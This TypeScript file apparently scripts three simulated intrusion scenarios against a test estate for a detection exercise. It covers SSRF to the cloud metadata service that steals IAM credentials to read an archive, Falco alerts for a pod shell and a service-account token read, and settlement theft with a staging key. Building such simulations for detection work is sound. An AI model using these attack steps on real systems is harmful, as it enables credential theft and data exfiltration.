import { receiptsHost } from '../cloud.ts'
import { outboundTo } from '../outbound.ts'
import { podOf } from '../pod.ts'
import { type StoryTruth, storyTruths } from '../truth.ts'
import { StoryClient } from './client.ts'
import { settle } from './daily-work.ts'
import { type Estate, productionHost } from './estate.ts'
import { falcoAlert } from './falco.ts'

/** Plays a story to its end. Resolves with when its last step happened, ms since the epoch. */
export type Story = (estate: Estate, target: string) => Promise<number>

const truth = (id: StoryTruth['id']): StoryTruth => storyTruths.find(story => story.id === id)!

/** A request is forged to the metadata service; what it gives out is used on the archive, from outside. */
const forgedRequest: Story = async (estate, target) => {
  const { ip } = truth('forged-request')
  const mallory = new StoryClient(target, productionHost, ip)
  await mallory.signIn(estate.production.users, 'mallory')
  const fetched = async (path: string): Promise<string> => {
    const image = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${path}`
    const { preview } = (await mallory.post('/customers/me/avatar', { image })) as {
      readonly preview: string
    }
    return preview
  }
  const role = (await fetched('')).trim()
  const { AccessKeyId } = JSON.parse(await fetched(role)) as { readonly AccessKeyId: string }
  const archive = (key: string) =>
    outboundTo(estate.cloud.standIns)(`http://${receiptsHost}/${key}`, {
      headers: {
        authorization: `AWS4-HMAC-SHA256 Credential=${AccessKeyId}/s3/aws4_request`,
        'x-forwarded-for': ip,
        'user-agent': 'aws-cli/2.31',
      },
    })
  const keys = JSON.parse((await archive('')).text) as readonly string[]
  for (const key of keys.slice(0, 5)) {
    const { status, text } = await archive(key.slice(1))
    if (status !== 200 || !text.includes('customerId')) throw new Error(`the archive answered ${status}`)
  }
  return Date.now()
}

/** A shell in the orders pod, another account's token, an API that the pod never called. */
const compromisedPod: Story = async estate => {
  const { production, collectors } = estate
  if (collectors === undefined) throw new Error('The estate reports to nobody.')
  const namespace = 'shop'
  const pod = podOf('orders', '1.0.0')
  const about = { namespace, pod }
  await falcoAlert(collectors.runtime, {
    ...about,
    rule: 'Run shell untrusted',
    fields: {
      'evt.type': 'execve',
      'proc.exepath': '/bin/sh',
      'proc.cmdline': 'sh -c echo in',
      'proc.pname': 'node',
    },
  })
  await falcoAlert(collectors.runtime, {
    ...about,
    rule: 'Read service account token',
    fields: {
      'evt.type': 'openat',
      'fd.name': '/var/run/secrets/kubernetes.io/serviceaccount/token',
      'proc.exepath': '/bin/sh',
      'proc.pname': 'node',
    },
  })
  const { status, bytes } = (await production.intrude('orders', {
    ...about,
    account: 'front',
    url: `${production.inside.payments}/settlements?from=1000&to=1300`,
  })) as { readonly status: number; readonly bytes: number }
  if (status !== 200 || bytes < 1_000) throw new Error(`payments answered ${status}`)
  return Date.now()
}

/** The key of staging is good in production too, and somebody outside has it. */
const stolenKey: Story = async (estate, target) => {
  const { ip } = truth('stolen-staging-key')
  const taken = await settle(target, productionHost, estate.keys.staging, ip, 1_300)
  if (taken < 200) throw new Error(`only ${taken} settlements were given out`)
  return Date.now()
}

export const stories: Readonly<Record<StoryTruth['id'], Story>> = {
  'forged-request': forgedRequest,
  'compromised-pod': compromisedPod,
  'stolen-staging-key': stolenKey,
}
